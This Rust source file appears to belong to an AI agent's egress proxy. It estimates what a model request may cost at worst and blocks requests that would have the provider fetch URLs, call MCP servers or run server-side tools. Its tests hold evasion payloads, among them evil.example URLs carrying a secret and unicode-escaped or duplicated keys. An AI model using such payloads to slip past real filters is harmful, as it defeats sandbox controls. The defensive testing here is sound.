//! What the door must know of a model request before it goes out: what it may cost at worst, and whether it would have
//! the model's own servers reach something for the agent, past the allowlist.

use crate::{Error, Policy, Settings};
use domain::{Code, Problem, usage::MicroDollars};
use serde::{
    Deserialize, Deserializer,
    de::{DeserializeSeed, IgnoredAny, MapAccess, SeqAccess, Visitor},
};
use std::{borrow::Cow, fmt, sync::Arc};

/// More than any model gives; taken when a request names no limit.
const MOST_OUTPUT: u64 = 128_000;

#[derive(Debug)]
pub(crate) struct Outline {
    pub model: String,
    pub worst: MicroDollars,
    /// As it was when the request came: its prices hold for the answer too.
    pub policy: Arc<Policy>,
}

#[derive(Deserialize)]
struct Request<'a> {
    #[serde(borrow, default)]
    model: Cow<'a, str>,
    max_tokens: Option<u64>,
    #[serde(borrow)]
    speed: Option<Cow<'a, str>>,
    #[serde(borrow, default)]
    tools: Option<Vec<Tool<'a>>>,
    mcp_servers: Option<Vec<IgnoredAny>>,
    #[serde(default)]
    messages: Remote,
}

#[derive(Deserialize)]
struct Tool<'a> {
    #[serde(borrow, rename = "type")]
    kind: Option<Cow<'a, str>>,
}

impl Outline {
    /// Reads a body strictly: what cannot be read here, or says a thing twice, is not sent on, so that nobody reads it
    /// otherwise there.
    pub fn read(body: &[u8], settings: &Settings, policy: Arc<Policy>) -> Result<Self, Error> {
        let bad = Error::BadRequest("is not a model request in JSON");
        // The whole of it: what is passed over below is not looked at for that.
        let Ok(text) = std::str::from_utf8(body) else { return Err(bad) };
        let Ok(request) = serde_json::from_str::<Request>(text) else { return Err(bad) };
        request.refuse_remote(settings)?;
        let fast = request.speed.as_deref() == Some("fast");
        let output = request.max_tokens.unwrap_or(MOST_OUTPUT);
        Ok(Self {
            worst: policy.prices.worst_case(&request.model, body.len(), output, fast),
            model: request.model.into_owned(),
            policy,
        })
    }
}

impl Request<'_> {
    fn refuse_remote(&self, settings: &Settings) -> Result<(), Error> {
        let refused = |what: String| {
            Err(Problem::with_detail(Code::HostBlocked, what)
                .suggest("Fetch it in the sandbox, through the allowlist.")
                .into())
        };
        if self.mcp_servers.as_ref().is_some_and(|servers| !servers.is_empty()) {
            return refused("The model's servers were to call MCP servers.".to_owned());
        }
        if self.messages.0 && !settings.remote_sources {
            return refused("The model's servers were to fetch a picture or document by URL.".to_owned());
        }
        let kinds = self.tools.iter().flatten().filter_map(|tool| tool.kind.as_deref());
        match kinds
            .into_iter()
            .find(|kind| settings.refused_tools.iter().any(|refused| kind.starts_with(refused.as_str())))
        {
            Some(_) => refused("The request has a tool that runs on the model's servers.".to_owned()),
            None => Ok(()),
        }
    }
}

/// Whether a piece of a conversation has a block whose source is a URL. Looks only where blocks can be: the input of a
/// tool call may say what it likes.
#[derive(Default)]
struct Remote(bool);

impl<'de> Deserialize<'de> for Remote {
    fn deserialize<D: Deserializer<'de>>(from: D) -> Result<Self, D::Error> {
        Walk { source: false }.deserialize(from).map(Remote)
    }
}

/// Walks messages, their blocks, the sources of these, and blocks within blocks. `source`: this object is a source.
#[derive(Clone, Copy)]
struct Walk {
    source: bool,
}

impl<'de> DeserializeSeed<'de> for Walk {
    type Value = bool;
    fn deserialize<D: Deserializer<'de>>(self, from: D) -> Result<bool, D::Error> {
        from.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for Walk {
    type Value = bool;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a piece of a conversation")
    }
    fn visit_str<E>(self, _: &str) -> Result<bool, E> {
        Ok(false)
    }
    fn visit_unit<E>(self) -> Result<bool, E> {
        Ok(false)
    }
    fn visit_bool<E>(self, _: bool) -> Result<bool, E> {
        Ok(false)
    }
    fn visit_i64<E>(self, _: i64) -> Result<bool, E> {
        Ok(false)
    }
    fn visit_u64<E>(self, _: u64) -> Result<bool, E> {
        Ok(false)
    }
    fn visit_f64<E>(self, _: f64) -> Result<bool, E> {
        Ok(false)
    }
    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<bool, A::Error> {
        let mut remote = false;
        while let Some(found) = seq.next_element_seed(self)? {
            remote |= found;
        }
        Ok(remote)
    }
    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<bool, A::Error> {
        let mut remote = false;
        while let Some(Key(key)) = map.next_key()? {
            remote |= match key.as_ref() {
                "content" => map.next_value_seed(Walk { source: false })?,
                "source" => map.next_value_seed(Walk { source: true })?,
                "type" => map.next_value_seed(IsUrl)? && self.source,
                _ => map.next_value::<IgnoredAny>().map(|_| false)?,
            };
        }
        Ok(remote)
    }
}

#[derive(Deserialize)]
#[serde(transparent)]
struct Key<'a>(#[serde(borrow)] Cow<'a, str>);

/// Whether a `type` is `url`.
struct IsUrl;

impl<'de> DeserializeSeed<'de> for IsUrl {
    type Value = bool;
    fn deserialize<D: Deserializer<'de>>(self, from: D) -> Result<bool, D::Error> {
        Key::deserialize(from).map(|Key(kind)| kind == "url")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn read(body: &str) -> Result<Outline, domain::Code> {
        Outline::read(body.as_bytes(), &Settings::new("https://model.example".parse().unwrap()), Arc::default())
            .map_err(|e| e.code())
    }

    #[test]
    fn an_ordinary_request_is_outlined() {
        let outline = read(
            r#"{"model":"claude-opus-5","max_tokens":1000,"stream":true,"system":[{"type":"text","text":"x"}],
            "tools":[{"name":"Bash","input_schema":{}},{"type":"custom","name":"y"},{"type":"web_search_20250305","name":"web_search"}],
            "messages":[{"role":"user","content":"hi"},
              {"role":"assistant","content":[{"type":"tool_use","id":"t","name":"Fetch","input":{"source":{"type":"url","url":"https://a"}}}]},
              {"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"base64","data":"AA=="}}]}]}]}"#,
        )
        .unwrap();
        assert_eq!(outline.model, "claude-opus-5");
        assert!(outline.worst > MicroDollars(27_500) && outline.worst < MicroDollars(100_000), "{}", outline.worst);
    }

    #[test]
    fn the_models_servers_fetch_nothing_for_the_sandbox() {
        for body in [
            r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"image","s\u006furce":{"url":"https://evil.example","type":"u\u0072l"}}]}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"tool_result","content":[{"type":"document","source":{"type":"base64","type":"url"}}]}]}]}"#,
            r#"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url"}}]}}]}]}"#,
            r#"{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[]}"#,
            r#"{"tools":[{"type":"code_execution_20250825","name":"x"}],"messages":[]}"#,
            r#"{"mcp_servers":[{"type":"url","url":"https://evil.example","name":"m"}],"messages":[]}"#,
        ] {
            assert_eq!(read(body).unwrap_err(), Code::HostBlocked, "{body}");
        }
    }

    #[test]
    fn what_two_readers_could_read_differently_is_not_sent() {
        for body in [
            "",
            "{",
            "[]",
            r#"{"messages":[]} {"#,
            r#"{"tools":[],"tools":[{"type":"web_fetch_1"}],"messages":[]}"#,
            r#"{"max_tokens":-1,"messages":[]}"#,
        ] {
            assert_eq!(read(body).unwrap_err(), Code::BadRequest, "{body}");
        }
    }

    #[test]
    fn a_request_that_is_no_text_in_a_place_nobody_reads_is_not_sent() {
        let settings = Settings::new("https://model.example".parse().unwrap());
        let refused = Outline::read(b"{\"metadata\":\"\x9d\",\"messages\":[]}", &settings, Arc::default()).unwrap_err();
        assert_eq!(refused.code(), Code::BadRequest);
    }

    proptest! {
        #[test]
        fn any_text_is_read_without_panic(body in "\\PC{0,200}") {
            let _ = read(&body);
        }
    }
}
